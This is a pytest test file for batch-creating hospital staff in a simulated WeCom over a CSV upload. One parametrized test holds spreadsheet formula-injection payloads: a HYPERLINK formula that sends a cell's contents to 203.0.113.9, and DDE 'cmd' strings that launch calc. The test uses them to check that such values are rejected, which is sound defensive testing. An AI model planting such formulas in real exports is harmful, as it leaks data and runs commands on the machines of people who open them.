"""Creating people in WeCom by batch, against the simulated WeCom, over a real socket."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest

from xinglin.kernel.cli_context import CliContext
from xinglin.kernel.worker import WorkerContext
from xinglin.people import batch
from xinglin.people.batch import on_batch_job_result
from xinglin.people.records import PersonRecord
from xinglin.wecom.answers import BatchResult
from xinglin.wecom.client import WeComClient
from xinglin_simulators.hospital.model import Hospital

from .sites import hire, run_command, stored_person

NEWCOMERS = (
    PersonRecord("77001", "新人", None, "19900077001", department="L", position="护士"),
    PersonRecord("77002", "无联系", None, department="L"),
    PersonRecord("77003", "无部门", None, "19900077003", department="H"),
    PersonRecord("七七", "汉字", None, "19900077004", department="L"),
    PersonRecord("77005", "撞号", None, "19900077005", department="L"),
    PersonRecord("77006", "占号", "77005", department="L"),
    PersonRecord("77007", "离职", None, "19900077007", department="L", state="left"),
)


def test_batch_leaves_out_who_cannot_be_created(site: CliContext) -> None:
    hire(site, *NEWCOMERS)
    with site.database.read_session() as session:
        planned = batch.plan_batch(session)
    assert planned.userids == {"77001": "77001"}
    assert [skipped.staff_no for skipped in planned.skipped] == ["77002", "77003", "七七", "77005"]
    head, row = planned.csv.decode().splitlines()
    assert head.startswith("姓名,帐号,手机号,邮箱,所在部门,职位,性别,是否部门内领导,排序,别名,地址,座机,禁用")
    assert row == "新人,77001,19900077001,,62,护士,,,,,,,0"


@pytest.mark.parametrize(
    "fields",
    [
        {"name": '=HYPERLINK("http://203.0.113.9/"&A1,"张三")'},
        {"name": "@SUM(1+1)*cmd|' /C calc'!A0"},
        {"name": "＋1+1"},
        {"position": "-2+3+cmd|' /C calc'!A0"},
        {"email": "+1@hospital.example"},
    ],
)
def test_a_formula_is_not_exported_and_its_owner_is_named(site: CliContext, fields: dict[str, str]) -> None:
    hire(
        site,
        replace(NEWCOMERS[0], **fields),
        PersonRecord("77010", "好人", None, "+8619900077010", department="L"),
    )
    shown = run_command(site, "create-in-wecom", answer="n\n").output
    assert "77001" in shown
    assert "公式" in shown
    with site.database.read_session() as session:
        planned = batch.plan_batch(session)
    assert list(planned.userids) == ["77010"]
    assert "+8619900077010" in planned.csv.decode()


def test_people_are_created_in_wecom_and_linked(
    site: CliContext, wecom: WeComClient, fiction: Hospital
) -> None:
    taken = fiction.person(fiction.cast["it"]).mobile
    hire(site, NEWCOMERS[0], PersonRecord("77009", "同号", None, taken, department="L"))
    result = run_command(site, "create-in-wecom", "--yes")
    assert result.exit_code == 0, result.output
    assert (stored_person(site, "77001").wecom_userid, stored_person(site, "77001").unreachable) == (
        "77001",
        "not_activated",
    )
    assert stored_person(site, "77009").wecom_userid is None
    assert "77009: " in result.output
    assert wecom.member("77001") is not None
    assert "77001" not in run_command(site, "create-in-wecom", answer="n\n").output


def test_those_whom_the_callback_linked_first_are_counted(
    site: CliContext, worker: WorkerContext, monkeypatch: pytest.MonkeyPatch
) -> None:
    hire(site, NEWCOMERS[0])
    wait_for = batch.wait_for

    def overtaken(client: WeComClient, jobid: str, *arguments: Any) -> BatchResult | None:
        result = wait_for(client, jobid, *arguments)
        on_batch_job_result(worker, {"JobId": jobid, "JobType": "sync_user"})
        return result

    monkeypatch.setattr(batch, "wait_for", overtaken)
    result = run_command(site, "create-in-wecom", "--yes")
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines()[-1] == "已创建：1 人"


def test_result_of_a_batch_comes_by_callback_too(
    site: CliContext, worker: WorkerContext, wecom: WeComClient
) -> None:
    hire(site, NEWCOMERS[0])
    with site.database.read_session() as session:
        planned = batch.plan_batch(session)
    jobid = wecom.create_members_batch(planned.csv)
    waits: list[float] = []
    assert batch.wait_for(wecom, jobid, waits.append) is not None
    on_batch_job_result(worker, {"JobId": jobid, "JobType": "replace_party"})
    on_batch_job_result(worker, {"JobType": "sync_user"})
    assert stored_person(site, "77001").wecom_userid is None
    for _repeat in range(2):
        on_batch_job_result(worker, {"JobId": jobid, "JobType": "sync_user"})
    assert stored_person(site, "77001").unreachable == "not_activated"


def test_a_job_that_does_not_end_is_not_waited_for_for_ever(
    wecom: WeComClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(batch, "POLLS", 0)
    assert batch.wait_for(wecom, "job", lambda _seconds: None) is None


def test_creating_asks_first_and_names_a_slow_job(site: CliContext, monkeypatch: pytest.MonkeyPatch) -> None:
    assert "：0 人" in run_command(site, "create-in-wecom").output
    hire(site, *NEWCOMERS[:2])
    refused = run_command(site, "create-in-wecom", answer="n\n")
    assert refused.exit_code == 1
    assert "77002 无联系: 没有手机号，也没有邮箱。" in refused.output
    monkeypatch.setattr(batch, "POLLS", 0)
    result = run_command(site, "create-in-wecom", answer="y\n")
    assert "回调" in result.output
    assert stored_person(site, "77001").wecom_userid is None
